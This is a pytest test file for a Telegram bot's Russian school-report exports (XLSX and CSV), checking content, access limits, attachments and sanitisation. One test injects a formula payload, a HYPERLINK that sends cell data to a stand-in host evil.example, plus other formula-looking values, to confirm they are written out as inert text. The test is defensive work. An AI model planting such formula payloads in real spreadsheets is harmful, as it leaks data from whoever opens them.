"""Files out as a coordinator gets them in the chat: the /report XLSX in the seed's shape, the
/export CSVs in Russian, the participants XLSX — and none of them runs a formula or breaks on
whatever text people stored."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot import texts
from bot.db import SessionFactory
from bot.models import (
    Attachment,
    AttachmentKind,
    Event,
    EventRegistration,
    EventStatus,
    ItemStatus,
    Person,
    ProgressReport,
    RegistrationState,
    ReviewState,
    RiskLevel,
    Roadmap,
    RoadmapItem,
    Role,
    SchoolRiskProfileEntry,
    Visit,
    VisitFollowUp,
    VisitFormat,
)
from bot.reports.cells import MAX_CELL_CHARS
from bot.services.access.invites import InviteScope, issue_invite
from bot.services.reporting.export_data import FILES
from bot.services.roadmaps.roadmap_import import HEADERS as HEADERS_ROW
from tests.support.factories import load_demo_data, person_named, school_named
from tests.support.harness import BotHarness
from tests.support.personas import COORDINATOR, CURATOR, DIRECTOR, TELYATNIKOV

NOW = datetime(2026, 11, 24, 7, 0, tzinfo=UTC)  # 12:00 in Kamensk-Uralsky (UTC+5)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_MIME = "text/csv"
ORGANISATION = "Организационные мероприятия"
EVENT_TITLE = "Круглый стол по ВСОКО, 2026"  # the demo's 2022 events are there too


async def _import_csv(bot: BotHarness, rows: list[list[str]]) -> None:
    director = await bot.login(DIRECTOR)
    await bot.send(director, "/import")
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows([HEADERS_ROW, *rows])
    preview = await bot.send_document(
        director, "plan.csv", text.getvalue().encode("utf-8"), CSV_MIME
    )
    assert f"Мероприятий прочитано: {len(rows)}" in preview.text, preview.text
    await bot.press(director, texts.BUTTON_UPLOAD)


@pytest.fixture
async def city(bot: BotHarness, session_factory: SessionFactory) -> BotHarness:
    """Kamensk-Uralsky: СШ № 17 alone has a roadmap (two sections), one item accepted with
    evidence, a visit with a next step, a risk profile, and a round table hosted by СШ № 35
    with three people signed up, one waiting, one who declined and one who withdrew."""
    async with session_factory() as session:
        await load_demo_data(session)
        await session.commit()
    bot.clock.set(NOW)
    await _import_csv(
        bot,
        [
            ["1", ORGANISATION, "", "Педсовет по итогам ВПР", "октябрь 2026", "Завуч", ""],
            ["2", ORGANISATION, "", "Анализ ОГЭ", "15.10.2026", "Директор", ""],
            ["3", "Работа с педагогами", "", "Курсы для учителей", "декабрь 2026", "Завуч", ""],
        ],
    )
    async with session_factory() as session:
        school = await school_named(session, "СШ № 17")
        host = await school_named(session, "СШ № 35")
        curator = await person_named(session, CURATOR)
        director = await person_named(session, DIRECTOR)
        first = await session.scalar(
            select(RoadmapItem)
            .join(Roadmap, Roadmap.id == RoadmapItem.roadmap_id)
            .where(Roadmap.school_id == school.id, RoadmapItem.number == "1")
        )
        assert first is not None
        first.status, first.accepted_at = ItemStatus.DONE, NOW
        report = ProgressReport(
            item_id=first.id,
            author_person_id=director.id,
            status=ItemStatus.DONE,
            done_text="Педсовет проведён.",  # its own full stop: the mark must not say «..»
            evidence_links="https://school17.example/pedsovet",
            submitted_at=NOW - timedelta(days=2),
            review_state=ReviewState.ACCEPTED,
            reviewed_by_person_id=curator.id,
            reviewed_at=NOW,
        )
        session.add(report)
        await session.flush()
        session.add(
            Attachment(
                kind=AttachmentKind.DOCUMENT,
                report_id=report.id,
                telegram_file_id="file-1",
                file_name="protokol.pdf",
            )
        )
        visit = Visit(
            curator_person_id=curator.id,
            school_id=school.id,
            visit_date=date(2026, 11, 10),
            format=VisitFormat.ON_SITE,
            purpose="Анализ ВПР",
            participants=["director", "deputy_uvr"],
            findings="Нет плана",
        )
        session.add(visit)
        await session.flush()
        session.add(
            VisitFollowUp(visit_id=visit.id, what="Составить план", due_date=date(2026, 12, 1))
        )
        session.add(
            SchoolRiskProfileEntry(
                school_id=school.id, risk_factor_id=9, level=RiskLevel.HIGH, year=2026
            )
        )
        event = Event(
            municipality_id=school.municipality_id,
            format="round_table",
            title=EVENT_TITLE,
            starts_at=datetime(2026, 10, 20, 9, 0, tzinfo=UTC),
            host_school_id=host.id,
            organisers="Плотникова Т.А., Управление образования",
            results="Приняты рекомендации.",
            status=EventStatus.FINISHED,
            capacity=3,
        )
        session.add(event)
        await session.flush()
        states = [
            (RegistrationState.REGISTERED, True),
            (RegistrationState.REGISTERED, False),
            (RegistrationState.REGISTERED, None),
            (RegistrationState.WAITLISTED, None),
            (RegistrationState.DECLINED, None),
            (RegistrationState.CANCELLED, None),
        ]
        for number, (state, attended) in enumerate(states, start=1):
            person = Person(full_name=f"Участник {number}", workplace_school_id=school.id)
            session.add(person)
            await session.flush()
            session.add(
                EventRegistration(
                    event_id=event.id, person_id=person.id, state=state, attended=attended
                )
            )
        await session.commit()
    return bot


async def _whole_report(bot: BotHarness, who: str = COORDINATOR):  # type: ignore[no-untyped-def]
    user = await bot.login(who)
    await bot.send(user, "/report")
    await bot.press(user, "I полугодие 2026/2027")
    reply = await bot.press(user, texts.REPORT_WHOLE)
    document = reply.last
    assert document.method == "sendDocument", reply.everything
    return document.document_bytes or b""


def _rows(content: bytes, sheet: str = "Отчёт") -> list[list[object]]:
    workbook = load_workbook(io.BytesIO(content))
    return [[cell.value for cell in row] for row in workbook[sheet].iter_rows(min_row=3)]


def _no_formulas(content: bytes) -> None:
    archive = zipfile.ZipFile(io.BytesIO(content))
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets
    for name in sheets:
        assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name


async def _export(bot: BotHarness, who: str = COORDINATOR) -> dict[str, list[list[str]]]:
    user = await bot.login(who)
    reply = await bot.send(user, "/export")
    assert reply.last.text == texts.EXPORT_CAPTION
    archive = zipfile.ZipFile(io.BytesIO(reply.last.document_bytes or b""))
    tables = {}
    for name in archive.namelist():
        raw = archive.read(name)
        assert raw.startswith(b"\xef\xbb\xbf"), name  # the BOM: Excel reads UTF-8
        if name.endswith(".csv"):
            tables[name] = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
        else:
            tables[name] = [[raw.decode("utf-8-sig")]]
    return tables


async def test_report_is_the_seeds_table_with_sections_school_and_event_rows(
    city: BotHarness,
) -> None:
    rows = _rows(await _whole_report(city))
    blank = [None] * 4
    assert rows == [
        # The whole municipality, where one school has items: the school is still named.
        ["СШ № 17", *blank],
        ["Организационные мероприятия", *blank],
        [
            "1",
            "Педсовет по итогам ВПР",
            "октябрь 2026",
            "Выполнено, принято куратором 24.11.2026. Педсовет проведён. Подтверждение: "
            "https://school17.example/pedsovet; файл «protokol.pdf».",
            "Завуч",
        ],
        ["2", "Анализ ОГЭ", "15.10.2026", "Не начато. Просрочено: срок 15.10.2026.", "Директор"],
        ["Работа с педагогами", *blank],
        ["3", "Курсы для учителей", "декабрь 2026", "Не начато.", "Завуч"],
        ["Городские мероприятия", *blank],
        [
            "1",
            f"Круглый стол «{EVENT_TITLE}» (на базе СШ № 35)",
            "20.10.2026",
            # Three places, three signed up: the waiting, the declined, the withdrawn are not.
            "Записалось: 3, участвовало: 1, в листе ожидания: 1. Итоги: Приняты рекомендации.",
            "Плотникова Т.А., Управление образования",
        ],
        # The next steps agreed in the period's visits and where they stand (issue 18.1).
        ["Договорённости по итогам посещений", *blank],
        ["1", "СШ № 17: Составить план", "01.12.2026", "В работе", None],
    ]
    assert not any(".." in str(value) for row in rows for value in row)


async def test_export_is_russian_and_human_readable(city: BotHarness) -> None:
    tables = await _export(city)
    assert sorted(tables) == sorted([*FILES, "README.txt"])
    for name, spec in FILES.items():
        assert tables[name][0] == spec.headers, name
    readme = tables["README.txt"][0][0]
    assert "Сформирована: 24.11.2026 12:00" in readme
    assert all(f"{name} — {spec.title}" in readme for name, spec in FILES.items())

    def table(name: str) -> list[dict[str, str]]:
        header, *rows = tables[name]
        return [dict(zip(header, row, strict=True)) for row in rows]

    school = next(row for row in table("schools.csv") if row["Школа"] == "СШ № 17")
    assert (school["ШНОР"], school["ШНСУ"], school["Статус"]) == ("да", "нет", "участвует")
    assert school["Муниципалитет"] == "Каменск-Уральский городской округ"
    items = {row["№"]: row for row in table("roadmap_items.csv")}
    assert items["1"]["Статус"] == "выполнено" and items["2"]["Статус"] == "не начато"
    assert items["1"]["Принято куратором"] == "24.11.2026 12:00"  # local time, not UTC
    assert items["2"]["Срок (дата)"] == "15.10.2026" and items["2"]["Повторяется"] == "нет"
    assert items["3"]["Раздел"] == "Работа с педагогами"
    (report,) = table("progress_reports.csv")
    assert report["Решение куратора"] == "принято" and report["Проверил"] == CURATOR
    assert (report["Отправлен"], report["Проверено"]) == ("22.11.2026 12:00", "24.11.2026 12:00")
    assert report["Вложения"] == "файл: 1" and report["Автор"] == DIRECTOR
    (visit,) = table("visits.csv")
    assert visit["Формат"] == "Выезд в школу" and visit["Дата"] == "10.11.2026"
    assert visit["С кем работали"] == "Директор, Заместитель по УВР"
    (step,) = table("follow_ups.csv")
    assert (step["Что сделать"], step["Срок"], step["Выполнено"]) == (
        "Составить план",
        "01.12.2026",
        "нет",
    )
    (risk,) = table("risk_profiles.csv")
    assert (risk["№ фактора"], risk["Уровень"], risk["Учебный год"]) == (
        "9",
        "высокий",
        "2026/2027",
    )
    assert risk["Фактор риска"] == "Низкий уровень вовлечённости родителей"
    (event,) = [row for row in table("events.csv") if row["Мероприятие"] == EVENT_TITLE]
    assert event["Начало"] == "20.10.2026 14:00" and event["Формат"] == "Круглый стол"
    assert (event["Записались"], event["В листе ожидания"], event["Участвовали"]) == ("3", "1", "1")
    assert (event["Статус"], event["На базе школы"]) == ("проведено", "СШ № 35")
    people = {row["ФИО"]: row for row in table("participants.csv")}
    assert [people[f"Участник {n}"]["Запись"] for n in range(1, 7)] == [
        "записан(а)",
        "записан(а)",
        "записан(а)",
        "в листе ожидания",
        "отказался(-ась)",
        "отменил(а) запись",
    ]
    assert people["Участник 1"]["Присутствие"] == "был(а)"
    assert people["Участник 2"]["Присутствие"] == "не был(а)"
    assert {row["Школа"] for row in people.values()} == {"СШ № 17"}
    for rows in tables.values():
        for row in rows:
            assert not any(value in ("True", "False", "None") for value in row)


async def test_a_curator_exports_participants_of_their_own_schools_only(
    city: BotHarness, session_factory: SessionFactory
) -> None:
    async with session_factory() as session:
        event = await session.scalar(select(Event).where(Event.title == EVENT_TITLE))
        other = Person(
            full_name="Чужой Участник",
            workplace_school_id=(await school_named(session, "СШ № 35")).id,
        )
        session.add(other)
        await session.flush()
        assert event is not None
        session.add(
            EventRegistration(
                event_id=event.id, person_id=other.id, state=RegistrationState.REGISTERED
            )
        )
        await session.commit()
    mine = {row[2] for row in (await _export(city, CURATOR))["participants.csv"][1:]}
    assert "Чужой Участник" not in mine and "Участник 1" in mine
    everyone = {row[2] for row in (await _export(city))["participants.csv"][1:]}
    assert "Чужой Участник" in everyone


async def test_participants_xlsx_names_the_school_in_the_organisers_words(
    city: BotHarness, session_factory: SessionFactory
) -> None:
    async with session_factory() as session:
        event_id = await session.scalar(select(Event.id).where(Event.title == EVENT_TITLE))
    coordinator = await city.login(COORDINATOR)
    opened = await city.send(coordinator, "/events")
    reply = await city.press_data(coordinator, opened.last.message_id, f"ev:xl:{event_id}")
    content = reply.last.document_bytes or b""
    _no_formulas(content)
    workbook = load_workbook(io.BytesIO(content))
    rows = [[c.value for c in row] for row in workbook["Участники"].iter_rows(min_row=2)]
    assert rows[0] == ["№", "ФИО", "Школа", "Запись", "Присутствие"]
    assert rows[1:] == [
        [1, "Участник 1", "СШ № 17", "записан(а)", "был(а)"],
        [2, "Участник 2", "СШ № 17", "записан(а)", "не был(а)"],
        [3, "Участник 3", "СШ № 17", "записан(а)", None],
        [4, "Участник 4", "СШ № 17", "в листе ожидания", None],
        [5, "Участник 5", "СШ № 17", "отказался(-ась)", None],
        [6, "Участник 6", "СШ № 17", "отменил(а) запись", None],
    ]


async def test_formula_looking_text_comes_out_as_text_in_every_file(
    city: BotHarness, session_factory: SessionFactory
) -> None:
    # A school team member whose Telegram name is a formula joins with an invite.
    async with session_factory() as session:
        school = await school_named(session, "СШ № 17")
        invite = await issue_invite(
            session,
            inviter=None,
            role=Role.SCHOOL_STAFF,
            scope=InviteScope(school_id=school.id),
            ttl=timedelta(days=7),
            now=NOW,
        )
        await session.commit()
    hostile = city.fake.user(7_100_001, first_name=FORMULA)
    await city.send(hostile, f"/start {invite.token}")
    async with session_factory() as session:
        person = await session.scalar(select(Person).where(Person.full_name == FORMULA))
        assert person is not None, "the Telegram name is the person's name"
        event = await session.scalar(select(Event).where(Event.title == EVENT_TITLE))
        assert event is not None
        session.add(
            EventRegistration(
                event_id=event.id, person_id=person.id, state=RegistrationState.REGISTERED
            )
        )
        visit = await session.scalar(select(Visit))
        assert visit is not None
        visit.purpose, visit.findings, visit.recommendations = FORMULA, "+7 343 000", "@SUM(1)"
        # An item as an import that let formulas through would store it (the import on main
        # refuses «формула вместо значения»; older data and other paths may still hold one).
        roadmap_id = await session.scalar(select(RoadmapItem.roadmap_id).limit(1))
        session.add(
            RoadmapItem(
                roadmap_id=roadmap_id,
                number="4",
                position=4,
                section="Раздел",
                measure="=1+2",
                responsible="-2+3",
                deadline_text="#N/A",
                due_date=date(2026, 12, 25),
            )
        )
        await session.commit()

    report = await _whole_report(city)
    _no_formulas(report)
    workbook = load_workbook(io.BytesIO(report))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in (FORMULA, "@SUM(1)"):  # the purpose; the recommendations (visits sheet)
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix
    assert by_value["=1+2"].data_type == "s" and by_value["-2+3"].quotePrefix
    assert by_value["#N/A"].data_type == "s"  # not an Excel error value

    tables = await _export(city)
    written = [value for rows in tables.values() for row in rows[1:] for value in row]
    assert not [value for value in written if value.startswith(FORMULA_STARTS)]
    for expected in ("'" + FORMULA, "'+7 343 000", "'@SUM(1)", "'=1+2", "'-2+3"):
        assert expected in written, expected
    participants = {row[2] for row in tables["participants.csv"][1:]}
    assert "'" + FORMULA in participants  # the Telegram name

    async with session_factory() as session:
        event_id = await session.scalar(select(Event.id).where(Event.title == EVENT_TITLE))
    coordinator = await city.login(COORDINATOR)
    opened = await city.send(coordinator, "/events")
    reply = await city.press_data(coordinator, opened.last.message_id, f"ev:xl:{event_id}")
    content = reply.last.document_bytes or b""
    _no_formulas(content)
    names = [row[1] for row in _rows(content, "Участники")]
    assert FORMULA in names


async def test_control_characters_and_huge_texts_cannot_break_the_report(
    city: BotHarness, session_factory: SessionFactory
) -> None:
    # Through the import, as the issue found it: a \x01 in a CSV cell.
    await _import_csv(
        city, [["4", "Раздел", "", "Анализ\x01 ВПР\x1b", "декабрь 2026", "Завуч", ""]]
    )
    async with session_factory() as session:
        roadmap_id = await session.scalar(select(RoadmapItem.roadmap_id).limit(1))
        nul = "\x00" if session.bind.dialect.name == "sqlite" else ""  # PostgreSQL keeps no NUL
        huge = "Очень длинный текст 😀 \x07" * 2_000  # 46,000 characters
        session.add(
            RoadmapItem(
                roadmap_id=roadmap_id,
                number="99",
                position=99,
                section="Раздел\x0b с символами",
                measure=huge,
                responsible=f"Зам{nul}директора\x1f",
                due_date=date(2026, 12, 20),
            )
        )
        await session.commit()
    rows = _rows(await _whole_report(city))
    values = [str(value) for row in rows for value in row if value is not None]
    assert not [v for v in values if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", v)]
    measures = {row[1]: row for row in rows if row[1]}
    assert "Анализ ВПР" in measures
    longest = max(values, key=len)
    # Excel's 32,767 characters a cell count UTF-16 units: an emoji is two.
    assert len(longest.encode("utf-16-le")) == 2 * MAX_CELL_CHARS and longest.endswith("…")
    assert longest.startswith("Очень длинный текст 😀")
    assert ["Раздел с символами", None, None, None, None] in rows
    assert any(row[4] == "Замдиректора" for row in rows)
    tables = await _export(city)
    exported = {row[0]: row for row in tables["roadmap_items.csv"][1:]}
    assert all("\x01" not in value for row in exported.values() for value in row)


async def test_export_with_the_evidence_files_fetched_from_telegram(
    city: BotHarness, session_factory: SessionFactory
) -> None:
    stored = city.fake._store_file(b"%PDF-1.4 protocol", "documents", "protokol.pdf")
    async with session_factory() as session:
        attachment = await session.scalar(select(Attachment))
        assert attachment is not None
        attachment.telegram_file_id = stored["file_id"]
        visit = await session.scalar(select(Visit))
        assert visit is not None
        session.add(
            Attachment(kind=AttachmentKind.PHOTO, visit_id=visit.id, telegram_file_id="gone")
        )
        session.add(  # bigger than Telegram lets a bot download: not even asked for
            Attachment(
                kind=AttachmentKind.DOCUMENT,
                visit_id=visit.id,
                telegram_file_id="huge",
                file_name="video.mp4",
                file_size=30 * 1024 * 1024,
            )
        )
        report_id, visit_id = attachment.report_id, visit.id
        await session.commit()
    coordinator = await city.login(COORDINATOR)
    plain = await city.send(coordinator, "/export")
    assert plain.last.button_texts == [texts.BUTTON_EXPORT_WITH_FILES]
    reply = await city.press(coordinator, texts.BUTTON_EXPORT_WITH_FILES)
    assert reply.messages[0].text.startswith("Собираю файлы подтверждений: 0 из 3")
    document = next(m for m in reply.messages if m.method == "sendDocument")
    archive = zipfile.ZipFile(io.BytesIO(document.document_bytes or b""))
    assert archive.read(f"files/report_{report_id}/{attachment.id}.pdf") == b"%PDF-1.4 protocol"
    assert "schools.csv" in archive.namelist() and "README.txt" in archive.namelist()
    index = list(
        csv.reader(io.StringIO(archive.read("files/index.csv").decode("utf-8-sig")), delimiter=";")
    )
    assert index[1] == [
        f"files/report_{report_id}/{attachment.id}.pdf",
        "СШ № 17",
        f"отчёт {report_id} (мероприятие 1)",
        "protokol.pdf",
        "",
    ]
    assert index[2] == [
        "",
        "СШ № 17",
        f"посещение {visit_id} (10.11.2026)",
        "",
        texts.EXPORT_FILE_UNAVAILABLE,
    ]
    assert index[3][3:] == ["video.mp4", texts.EXPORT_FILE_TOO_BIG]
    assert texts.export_files_done(1, 2, 45) in reply.text
    # The one refusal Telegram gave is the file it no longer has; nothing else was refused.
    assert city.fake.errors == [("getFile", 400, "Bad Request: invalid file_id")]
    city.fake.errors.clear()


async def test_export_with_files_refused_to_a_school_and_empty_without_files(
    city: BotHarness,
) -> None:
    director = await city.login(DIRECTOR)
    assert (await city.send(director, "/export")).text == texts.REFUSED
    curator = await city.login(TELYATNIKOV)  # СШ № 35 and СШ № 51: no files
    reply = await city.send(curator, "/export")
    assert reply.last.button_texts == []


def _settings(bot: BotHarness):  # type: ignore[no-untyped-def]
    return bot.application.bot_data["runtime"].settings  # type: ignore[union-attr]


async def test_a_file_taking_a_while_is_announced_before_it_comes(city: BotHarness) -> None:
    _settings(city).file_notice_after = 0.0  # every build counts as slow
    user = await city.login(COORDINATOR)
    await city.send(user, "/report")
    await city.press(user, "I полугодие 2026/2027")
    reply = await city.press(user, texts.REPORT_WHOLE)
    assert reply.messages[0].text == texts.FILE_BUILDING
    assert reply.last.method == "sendDocument"
    export = await city.send(user, "/export")
    assert export.messages[0].text == texts.FILE_BUILDING
    assert export.last.text == texts.EXPORT_CAPTION


async def test_a_file_over_its_time_budget_is_stopped_and_a_smaller_scope_asked_for(
    city: BotHarness,
) -> None:
    # Nothing is built in a microsecond; announced at once, so the budget is looked at
    # while the file is still being built.
    _settings(city).file_notice_after = 0.0
    _settings(city).file_time_budget = 1e-6
    user = await city.login(COORDINATOR)
    await city.send(user, "/report")
    await city.press(user, "I полугодие 2026/2027")
    reply = await city.press(user, texts.REPORT_WHOLE)
    assert texts.ERRORS["file_build_too_long"] in reply.everything
    assert not [m for m in reply.messages if m.method == "sendDocument"]
    export = await city.send(user, "/export")
    assert texts.ERRORS["file_build_too_long"] in export.everything
    assert not [m for m in export.messages if m.method == "sendDocument"]
    # The chat is not stuck: with the budget back, the report comes.
    _settings(city).file_time_budget = 120.0
    assert (await _whole_report(city)).startswith(b"PK")
